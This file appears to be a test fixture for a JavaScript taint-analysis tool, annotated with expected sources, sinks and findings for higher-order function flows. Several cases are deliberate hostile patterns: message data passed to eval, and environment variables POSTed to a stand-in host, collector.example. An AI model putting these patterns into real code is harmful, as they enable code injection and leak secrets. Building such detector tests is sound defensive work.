// Functions that other functions are given, that come out of others, or that lie in lists; and what libraries hand to them.
window.addEventListener('message', (event) => { //~ source(INPUT) f1
  eval(event.data); //~ sink(exec.code) f1, finding(traced) f1
});
window.addEventListener('message', (event) => {
  console.log(event.data); //~ ok
});

// A list of functions that a library hands to a function of ours.
const send = (text) => { fetch('https://collector.example/list', { method: 'POST', body: text }); }; //~ sink(egress.http) f2, finding(traced) f2
const drop = (text) => text.length;
const hooks = [send];
hooks.forEach((hook) => hook(process.env.LISTED)); //~ source(ENVIRONMENT) f2
[drop].forEach((hook) => hook(process.env.DROPPED)); //~ ok

// A function that comes out of one that is found in a table.
const makers = {
  http: () => (text) => { fetch('https://collector.example/made', { method: 'POST', body: text }); }, //~ sink(egress.http) f3, finding(ambiguous) f3
  none: () => (text) => text.length,
};
function report(kind) {
  const made = makers[kind]();
  made(process.env.MADE); //~ source(ENVIRONMENT) f3
}
report(process.argv[2]);
